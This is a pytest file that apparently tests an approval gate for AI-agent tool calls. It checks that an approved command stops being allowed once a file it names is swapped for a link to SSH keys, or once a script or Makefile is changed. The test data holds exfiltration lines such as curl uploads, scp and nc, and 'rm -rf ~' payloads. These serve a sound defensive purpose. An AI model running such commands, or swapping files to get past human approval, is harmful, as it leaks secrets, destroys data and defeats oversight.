"""Threat: a command line is approved, and a file that it names is swapped before it runs.

Where the names in a line lead is part of its reading, whether or not its programs are known. Of a line that
nobody can tell, so is what is in the files it names.
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest

from sayso import Sayso
from sayso.gate.open import open_gate
from sayso.policy import load_preset
from sayso.store.memory.store import MemoryStore
from tests.attack.opening import a_service
from tests.attack.workplaces import work
from tests.support.gates import KEY, no_settings
from tests.support.people import Person, answer_open

__all__ = ["no_settings", "work"]

LINES = [
    "cp other.txt notes.txt",
    "curl -d @notes.txt https://example.com/",
    "curl -T notes.txt https://example.com/",
    "scp notes.txt host:",
    "git add notes.txt && git push",
    "wget -O notes.txt https://example.com/",
    "unknownprog notes.txt",
    "unknownprog --out=notes.txt",
    "unknownprog -onotes.txt",
    "unknownprog a:notes.txt",
    "unknownprog *.txt",
    "unknownprog {notes,other}.txt",
    'unknownprog "$PWD/notes.txt"',
    "unknownprog no''tes.txt",
    "cd sub && unknownprog ../notes.txt",
    "cd sub && unknownprog deep.txt",
    "cd sub && cp ../other.txt deep.txt",
    "unknownprog sub/deep.txt",
    "python3 -c \"open('notes.txt', 'w')\"",
    "X=notes.txt; unknownprog $X",
    "nc host 1 < notes.txt",
    "sudo tee notes.txt",
    "cat <<E > notes.txt\nhi\nE",
]
RUN_FROM_INPUT = [
    "bash < run.sh",
    "cat run.sh | bash",
    "python3 < run.sh",
    'bash -c "$(cat run.sh)"',
    "unknownprog run.sh",
]


@pytest.fixture
def gate(work: Path) -> Sayso:
    (work / "sub").mkdir()
    for name in ("sub/deep.txt", "run.sh"):
        (work / name).write_text("echo hi")
    return Sayso(open_gate(load_preset("balanced"), MemoryStore(), key=KEY), [Person()])


def swap(work: Path, line: str, to: Path, *, hard: bool = False) -> None:
    file = work / ("sub/deep.txt" if "deep.txt" in line else "notes.txt")
    file.unlink()
    if hard:
        os.link(to, file)
    else:
        file.symlink_to(to)


@pytest.mark.parametrize("to", ["secret", "outside", "inside", "hard link"])
@pytest.mark.parametrize("line", LINES)
def test_an_approved_command_line_never_follows_a_file_that_was_swapped(
    gate: Sayso, work: Path, line: str, to: str
) -> None:
    (work.parent / "outside.txt").write_text("elsewhere")
    places = {"outside": work.parent / "outside.txt", "inside": work / "other.txt"}
    called = gate.session(workspace=str(work)).call("Bash", {"command": line})
    answer_open(gate)
    secret = work.parent / "home" / ".ssh" / "authorized_keys"
    swap(work, line, places.get(to, secret), hard=to == "hard link")
    assert not called.retry().allowed


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("my_exec", {"command": "scp notes.txt host:"}),
        ("my_exec", {"cmd": "upload notes"}),
        ("my_exec", {"argv": ["upload", "-fnotes.txt"]}),
        ("python", {"code": "send(open('notes.txt').read())"}),
        ("job", {"steps": [{"script": "scp 'notes.txt' host:"}]}),
    ],
    ids=repr,
)
def test_an_approved_call_of_a_tool_not_declared_never_follows_a_file_that_its_text_names(
    gate: Sayso, work: Path, tool: str, args: dict[str, Any]
) -> None:
    (work / "notes").write_text("notes")
    called = gate.session(workspace=str(work)).call(tool, args)
    answer_open(gate)
    for name in ("notes", "notes.txt"):
        (work / name).unlink()
        (work / name).symlink_to(work.parent / "home" / ".ssh" / "id_rsa")
    assert not called.retry().allowed


@pytest.mark.parametrize("line", LINES + RUN_FROM_INPUT)
def test_an_approved_command_line_whose_files_stay_runs_once(gate: Sayso, work: Path, line: str) -> None:
    session = gate.session(workspace=str(work))
    called = session.call("Bash", {"command": line})
    answer_open(gate)
    (work / "unnamed.md").write_text("something else")
    assert called.retry().allowed
    assert not session.call("Bash", {"command": line}).allowed


@pytest.mark.parametrize("line", RUN_FROM_INPUT)
def test_an_approved_command_line_never_runs_a_script_that_was_changed_since(
    gate: Sayso, work: Path, line: str
) -> None:
    called = gate.session(workspace=str(work)).call("Bash", {"command": line})
    answer_open(gate)
    (work / "run.sh").write_text("rm -rf ~")
    assert not called.retry().allowed


def test_over_http_no_approved_command_line_follows_a_file_that_was_swapped(gate: Sayso, work: Path) -> None:
    with a_service(gate) as service:
        session = service.opened(workspace=str(work))
        body = {"tool": "Bash", "args": {"command": "scp notes.txt host:"}, "session": session}
        asked = service.told("host", "POST", "/v1/calls", body)
        service.answer(asked["question"], "once")
        swap(work, "", work.parent / "home" / ".ssh" / "id_rsa")
        again = service.told("host", "POST", f"/v1/calls/{asked['operation_id']}/retry", {})
        assert again["status"] == "pending"


def test_a_pipe_that_a_line_names_holds_nobody_up(gate: Sayso, work: Path) -> None:
    os.mkfifo(work / "pipe")
    session = gate.session(workspace=str(work))
    assert session.call("Bash", {"command": "./pipe"}).asked
    assert session.call("Bash", {"command": "unknownprog pipe"}).asked


RUNNERS = {
    "make": "Makefile",
    "make -f other.mk": "other.mk",
    "make -C sub": "sub/Makefile",
    "cd sub && make": "sub/Makefile",
    "npm test": "package.json",
    "npm run build": "package.json",
    "pytest": "conftest.py",
    "pytest sub": "sub/conftest.py",
    "pytest sub/test_a.py::test_b": "sub/test_a.py",
    "bash -c 'make'": "Makefile",
}


@pytest.mark.parametrize(("line", "name"), RUNNERS.items())
def test_an_approved_test_or_build_never_goes_by_a_file_that_was_changed(
    gate: Sayso, work: Path, line: str, name: str
) -> None:
    for each in RUNNERS.values():
        (work / each).write_text("{}")
    session = gate.session(workspace=str(work))
    called = session.call("Bash", {"command": line})
    assert called.asked
    answer_open(gate)
    (work / name).write_text('{"scripts": "rm -rf ~"}')
    assert not called.retry().allowed
    answer_open(gate)
    assert called.retry().allowed
